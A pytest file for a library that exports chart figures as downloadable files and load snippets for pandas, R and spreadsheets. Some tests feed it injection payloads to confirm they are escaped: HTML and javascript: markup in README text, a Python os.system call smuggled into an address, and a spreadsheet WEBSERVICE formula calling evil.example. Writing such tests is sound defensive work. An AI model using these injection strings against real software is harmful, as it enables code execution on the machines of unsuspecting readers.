"""Downloads: what a reader takes away of a figure opens anywhere, explains itself and runs nothing."""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import altair as alt
import plotly.graph_objects as go
import plotly.io
import pytest
from download_parts import (
    CC_BY,
    COLUMNS,
    MIRROR,
    REUTERS,
    STILL,
    findings,
    in_pandas,
    people_by_city,
    table,
    write,
)

from sourcebook.figures import PALETTE, Figure, plotly_charts
from sourcebook.figures.downloads import files_of, snippets


@pytest.fixture
def bars() -> Figure:
    """Give a figure of Altair's, as a notebook tells it."""
    return people_by_city()


@pytest.fixture
def lines(bars: Figure) -> Figure:
    """Give a figure of Plotly's."""
    chart = go.Figure(go.Scatter(x=[1, 2], y=[3, 4], line={"color": PALETTE["red"]}))
    return replace(bars, engine="plotly", spec=plotly_charts.specification(chart))


def test_files_have_stable_readable_names(bars: Figure) -> None:
    """Every file begins with the figure's id, so that they lie side by side in a folder."""
    names = set(files_of(bars, STILL))

    assert names == {
        f"people-by-city.{end}"
        for end in ("csv", "datapackage.json", "README.md", "vega-lite.json", "svg", "png")
    }


def test_files_without_a_still_have_no_picture(lines: Figure) -> None:
    """Where nothing could be drawn, the data are given all the same."""
    names = set(files_of(lines))

    assert names == {
        f"people-by-city.{end}" for end in ("csv", "datapackage.json", "README.md", "plotly.json")
    }


def test_files_are_the_same_each_time(bars: Figure) -> None:
    """Equal figures give equal bytes, so that a build rewrites nothing without need."""
    one, other = (files_of(bars, STILL, licences=[CC_BY], book_title="B") for _ in range(2))

    assert one == other


def test_readme_says_all_that_a_reader_needs(bars: Figure) -> None:
    """Title, unit, date, columns, method, sources, licence and how to load: in words, on short lines."""
    readme = files_of(bars, licences=[CC_BY], book_title="The Exodus")["people-by-city.README.md"].decode()

    assert readme.startswith(
        "# Fewer came than were said\n\nPeople in a day, by city\n\nAs of 14 January 2025."
    )
    for said in (
        "Published in “The Exodus”.",
        "- Day: date, as year-month-day.",
        "- People: whole number.",
        "It cannot say who stayed.",
        "- Reuters (via a paper), “Over half a million”, 2025-01-14. https://reuters.example/a?b=1",
        "- Wikipedia, “Xiaohongshu”. Caution: an encyclopedia, itself second-hand.",
        "- Creative Commons Attribution 4.0 (CC-BY-4.0). https://cc.example/by",
        'people_by_city = pd.read_csv("people-by-city.csv"',
        'people_by_city <- read.csv("people-by-city.csv"',
        "- people-by-city.vega-lite.json:",
    ):
        assert said in " ".join(readme.split())
    assert "mirror.example" not in readme
    assert ".png" not in readme
    assert max(len(line) for line in readme.splitlines() if "read.csv" not in line) <= 100


def test_files_of_a_plain_chart_leave_out_what_is_not_known(bars: Figure, tmp_path: Path) -> None:
    """A chart without title, method and sources has valid files that say nothing of them."""
    plain = replace(bars, title="", subtitle="", method=(), sources=(), as_of="")

    files = files_of(plain, STILL)

    readme = files["people-by-city.README.md"].decode()
    assert readme.startswith("# people-by-city\n\n## The chart in words\n\nBars: ")
    assert "## Sources" not in readme
    assert "## How the numbers" not in readme
    assert findings(write(files, tmp_path)) == []


def test_readme_is_text_and_no_markup(bars: Figure) -> None:
    """What an author or a source wrote is shown, not run, by whatever renders Markdown."""
    evil = "<img src=x onerror=alert(1)> [go](javascript:alert(1))\n# not a heading"
    hostile = replace(
        bars, title=evil, alt=evil, method=(evil,), table=table([[evil, False]], [["x"]]), sources=()
    )

    readme = files_of(hostile, book_title=evil)["people-by-city.README.md"].decode()

    assert re.search(r"(?<!\\)<[a-z/!]", readme) is None
    assert "](" not in readme
    assert "\n# not" not in readme


def test_vega_specification_can_be_drawn_by_others(bars: Figure) -> None:
    """Colours are colours, the width is told, and Vega-Lite's own schema accepts it."""
    told = files_of(bars)["people-by-city.vega-lite.json"].decode()

    chart = alt.Chart.from_dict(json.loads(told))

    assert chart.to_dict()["mark"] == {"type": "bar", "color": PALETTE["red"]}
    assert "var(" not in told
    assert json.loads(told)["width"] == 680
    assert json.loads(told)["usermeta"]["sources"] == [REUTERS.citation, MIRROR.citation]
    assert json.loads(told)["description"] == bars.alt


def test_plotly_specification_can_be_drawn_by_others(lines: Figure) -> None:
    """Plotly itself reads it back, in colours; it says what it shows and of whom."""
    told = files_of(lines)["people-by-city.plotly.json"].decode()

    chart = plotly.io.from_json(told)

    assert chart.data[0].line.color == PALETTE["red"]
    assert chart.layout.meta["sources"] == [REUTERS.citation, MIRROR.citation]
    assert "var(" not in told


def test_specification_says_nothing_of_our_own_business(bars: Figure, lines: Figure) -> None:
    """The numbers by which pages tie marks to rows of the table are left out; values of a like name stay."""
    records = [{"_row": 0, "a": "_row"}, {"_row": 1, "a": "rows"}]
    vega = {
        "data": {"values": records},
        "datasets": {"rows": records},
        "layer": [{"data": {"values": records}}],
    }
    plotly_spec = {"data": [{"rows": [1]}], "layout": {}, "rows": [[0, 1]]}

    files = files_of(replace(bars, spec=vega)) | files_of(replace(lines, spec=plotly_spec))

    told = json.loads(files["people-by-city.vega-lite.json"])
    values = [{"a": "_row"}, {"a": "rows"}]
    assert told["data"]["values"] == told["layer"][0]["data"]["values"] == told["datasets"]["rows"] == values
    assert json.loads(files["people-by-city.plotly.json"])["data"] == [{"rows": [1]}]
    assert "rows" not in json.loads(files["people-by-city.plotly.json"])


def test_composed_specification_keeps_its_own_widths(bars: Figure) -> None:
    """Charts side by side have the sizes that their author gave them."""
    spec = {"hconcat": [{"mark": "bar", "width": 100}, {"mark": "bar", "width": 50}]}

    told = json.loads(files_of(replace(bars, spec=spec))["people-by-city.vega-lite.json"])

    assert "width" not in told
    assert told["hconcat"] == spec["hconcat"]


def test_figure_itself_is_not_changed(bars: Figure) -> None:
    """Making files changes nothing that the page shows."""
    before = json.dumps(bars.spec)

    files_of(bars, STILL)

    assert json.dumps(bars.spec) == before


def test_files_of_a_long_table_are_made_at_once(bars: Figure) -> None:
    """A hundred thousand rows take seconds, not minutes, and none is lost."""
    rows = [[f"place {number}", None, number, number / 7, True] for number in range(100_000)]
    long = replace(bars, table=table(COLUMNS, rows))

    begun = time.perf_counter()
    files = files_of(long)
    taken_s = time.perf_counter() - begun

    read = in_pandas(files["people-by-city.csv"].decode())
    assert (len(read), read["People"].sum()) == (100_000, 4_999_950_000)
    assert taken_s < 20


def test_pandas_snippet_loads_the_table(bars: Figure, tmp_path: Path) -> None:
    """The lines that a reader copies run as they stand, beside the file."""
    folder = write(files_of(bars), tmp_path)
    (pandas, _, _) = snippets("people-by-city", "people-by-city.csv")
    shown = f"{pandas.code}\nprint(people_by_city.to_json(orient='split', force_ascii=False))"

    ran = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", shown],
        cwd=folder,
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
        encoding="utf-8",
    )

    told = json.loads(ran.stdout)
    assert told["columns"] == [label for label, _ in COLUMNS]
    assert [row[0] for row in told["data"]] == ["Zürich", "北京, “NA”", "NA"]
    assert [row[2] for row in told["data"]] == [1234567, None, -5]


HOSTILE_ADDRESSES = [
    "https://book.example/_figures/people-by-city.csv",
    'https://book.example/a b/小.csv?x=1&y="2"#z',
    'x"); __import__("os").system("true"); ("',
    "x'); system('true'); ('",
    "a\\",
    "a\nb\r\tc",
    "a\x00\ud800b",
    'https://book.example/");system("true");#',
    'https://book.example/"&WEBSERVICE("https://evil.example")&"',
    "小红书 ${x} %s {y}.csv",
]


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_pandas_snippet_is_one_import_and_one_call(address: str) -> None:
    """Whatever the address holds stays within the quotes."""
    pandas = snippets("x", address)[0]

    first, second = ast.parse(pandas.code).body

    assert (pandas.name, pandas.language) == ("pandas", "python")
    assert ast.unparse(first) == "import pandas as pd"
    assert isinstance(second, ast.Assign) and isinstance(second.value, ast.Call)
    assert ast.unparse(second.value.func) == "pd.read_csv"
    assert [type(one) for one in second.value.args] == [ast.Constant]
    pandas.code.encode("utf-8")


R_CALL = re.compile(
    r'x <- read\.csv\("((?:[^"\\\n]|\\["\\nrtbf]|\\u[0-9a-f]{4})*)", '
    r'check\.names = FALSE, na\.strings = "", encoding = "UTF-8"\)'
)


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_r_snippet_is_one_call(address: str) -> None:
    """The address is one string by R's rules: quotes and backslashes escaped, no bare line break, no NUL."""
    r = snippets("x", address)[1]

    found = R_CALL.fullmatch(r.code)

    assert (r.name, r.language) == ("R", "r")
    assert found is not None
    assert "\\u0000" not in found[1]


@pytest.mark.parametrize("address", [one for one in HOSTILE_ADDRESSES if one.startswith("https://")])
def test_spreadsheet_snippet_is_one_formula(address: str) -> None:
    """An address on the web is imported by a formula that holds one text and nothing else."""
    sheet = snippets("x", address)[2]

    found = re.fullmatch(r'=IMPORTDATA\("((?:[^"\s]|"")*)"\)', sheet.code)

    assert sheet.language == "excel"
    assert found is not None
    assert found[1].isascii()


@pytest.mark.parametrize("address", [one for one in HOSTILE_ADDRESSES if not one.startswith("https://")])
def test_spreadsheet_snippet_says_how_to_open_a_file(address: str) -> None:
    """Without an address on the web there is no formula but advice, a sentence to a line."""
    sheet = snippets("x", address)[2]

    assert sheet.language == "text"
    assert sheet.code.startswith("Open ")
    assert len(sheet.code.splitlines()) == 2


def test_snippets_write_a_web_address_as_programs_take_it() -> None:
    """Spaces and letters beyond ASCII are encoded once; what is encoded already stays."""
    code = snippets("x", "https://book.example/a b/%C3%A9/é.csv?y=1")[0].code

    assert '"https://book.example/a%20b/%C3%A9/%C3%A9.csv?y=1"' in code


@pytest.mark.parametrize(
    ("figure_id", "name"),
    [
        ("women-of-china", "women_of_china"),
        ("import", "data_import"),
        ("function", "data_function"),
        ("pd", "data_pd"),
        ("x'); evil('", "x_evil"),
        ("2024", "data_2024"),
        ("", "data"),
    ],
)
def test_snippets_name_the_table_for_the_figure(figure_id: str, name: str) -> None:
    """The variable is the figure's id, as far as Python and R have not taken it."""
    pandas, r, _ = snippets(figure_id, "x.csv")

    assert f"\n{name} = pd.read_csv(" in pandas.code
    assert r.code.startswith(f"{name} <- read.csv(")
